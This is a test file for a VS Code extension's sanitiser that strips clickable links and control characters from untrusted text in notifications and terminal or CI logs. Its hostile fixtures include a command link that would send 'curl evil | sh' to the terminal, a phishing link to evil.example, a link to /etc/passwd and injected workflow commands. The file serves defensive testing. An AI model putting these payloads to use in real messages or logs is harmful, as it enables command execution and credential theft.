import * as assert from 'node:assert/strict';
import { forMessage, forTerminal } from '../../src/core/untrusted';

/**
 * What VS Code turns into a clickable link in a notification's text (a label in brackets, then
 * an http(s), command or file target in parentheses): the oracle these tests hold the output to.
 */
const RENDERED_LINK = /\[[^\]]+\]\((?:https?:\/\/|command:|file:)[^)\s]+/i;

describe('untrusted text, made safe to show', () => {
  describe('forMessage (VS Code notifications)', () => {
    const hostile = [
      // The zip entry name of the hardening issue: its "Show Logs" would re-point the base URL.
      '../[Show Logs](command:docsAdmin.baseUrl.set?%5B%22https%3A%2F%2Fevil.example%22%5D)',
      // A server's export error, as reproduced in the playground.
      'Render failed. [Show Logs](command:docsAdmin.baseUrl.set?%5B%22http%3A%2F%2F127.0.0.1%3A47999%22%5D)',
      // A terminal command, a phishing link, a file link, upper case, and a title.
      '[Retry](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%20%7C%20sh%5Cn%22%7D)',
      'Key rejected: [renew it here](https://evil.example/login)',
      '[open](FILE:///etc/passwd)',
      '[x](https://evil.example "a title")',
      // Split by a line break, which the message renderer would see as one line.
      '[Show Logs]\n(command:docsAdmin.key.clear)',
    ];

    for (const text of hostile) {
      it(`leaves no link in ${JSON.stringify(text.slice(0, 48))}…`, () => {
        assert.match(text.replace(/\n/g, ''), RENDERED_LINK, 'the case itself renders as a link');
        const shown = forMessage(text);
        assert.doesNotMatch(shown, RENDERED_LINK);
        // It still reads the same: every word of the original is there.
        for (const word of text.split(/[^A-Za-z]+/).filter((w) => w.length > 3)) assert.ok(shown.includes(word), `${word} in ${shown}`);
      });
    }

    it('escapes control and invisible characters, and keeps plain text as it is', () => {
      assert.equal(forMessage('Render failed (timeout after 30 s).'), 'Render failed (timeout after 30 s).');
      assert.equal(forMessage('a\u202eb\u0000c\u001b[31m'), 'a\\u202eb\\u0000c\\u001b[31m');
      assert.equal(forMessage('line one\r\nline two\tend'), 'line one line two end');
      assert.equal(forMessage('[brackets] and (parentheses) apart'), '[brackets] and (parentheses) apart');
    });
  });

  describe('forTerminal (the CLI, CI logs)', () => {
    it('shows escape sequences and other control characters as escapes, keeping lines and tabs', () => {
      assert.equal(forTerminal('\u001b]0;pwned\u0007red\u001b[31m\tx\ny'), '\\u001b]0;pwned\\u0007red\\u001b[31m\tx\ny');
      assert.equal(forTerminal('bidi \u202e override, C1 \u009b, DEL \u007f'), 'bidi \\u202e override, C1 \\u009b, DEL \\u007f');
      assert.equal(forTerminal('a\r\nb\rc'), 'a\nb\\u000dc');
    });

    it('defuses workflow commands at the start of any line, keeping the text readable', () => {
      const hostile = ['::set-output name=x::y', 'ok\n  ::add-mask::secret', '::stop-commands::token', '##[error]fake', '##vso[task.setvariable variable=x]y', '##VSO[task.complete]'];
      for (const text of hostile) {
        const shown = forTerminal(text);
        assert.doesNotMatch(shown, /^[ \t]*(::|##\[|##vso\[)/im, shown);
        assert.equal(shown.replace(/\u200b/g, ''), text);
      }
      // Not at the start of a line: left alone.
      assert.equal(forTerminal('error: a::b'), 'error: a::b');
    });
  });
});
